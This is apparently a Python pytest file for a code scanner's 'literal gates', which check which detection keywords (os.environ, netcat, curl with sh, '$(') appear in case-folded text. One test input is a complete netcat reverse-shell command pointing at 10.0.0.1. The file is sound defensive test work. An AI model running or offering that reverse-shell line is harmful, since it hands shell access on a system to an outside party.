"""Literal gates: one pass tells which gates a case-folded text opens."""

from __future__ import annotations

import pytest

from skillscan.literal_gates import Gate, LiteralGates
from skillscan.normalize import fold_case

GATES = LiteralGates(
    {
        "environ": Gate.of(literals=["os.environ"]),
        "netcat": Gate.of(words=["nc", "netcat"]),
        "quoted": Gate.of(literals=['"\\', "$("]),
        "both": Gate.of(literals=["curl"], words=["sh"]),
        "always": None,
    }
)


@pytest.mark.parametrize(
    ("text", "opened"),
    [
        ("", {"always"}),
        ("print('hi')", {"always"}),
        ("x = OS.Environ['A']", {"environ", "always"}),  # searched folded
        ("nc -e /bin/sh 10.0.0.1 4444", {"netcat", "both", "always"}),
        ("async function sync() { once() }", {"always"}),  # `nc` only inside words
        ("x_nc_y", {"netcat", "always"}),  # `_` is no letter or digit: a superset of \b is fine
        ("éncé", {"netcat", "always"}),  # non-ASCII neighbours neither
        ("xnc nc9 (nc)", {"netcat", "always"}),  # the first occurrences are inside words, the last is not
        ('say "\\ now', {"quoted", "always"}),
        ("a=$(date)", {"quoted", "always"}),
        ("curling", {"both", "always"}),
        ("bash", {"always"}),
    ],
)
def test_gates_open_on_their_literals_and_whole_words(text: str, opened: set[str]) -> None:
    assert set(GATES.open(fold_case(text))) == opened


def test_a_gate_opens_however_often_its_literal_occurs() -> None:
    text = "function sync() {}\n" * 20_000 + "netcat 10.0.0.1 80\n"
    assert "netcat" in GATES.open(fold_case(text))


def test_literals_are_lowercase_ascii() -> None:
    with pytest.raises(ValueError, match="lowercase ASCII"):
        LiteralGates({"k": Gate.of(literals=["Curl"])})
    with pytest.raises(ValueError, match="lowercase ASCII"):
        LiteralGates({"k": Gate.of(words=["ſh"])})
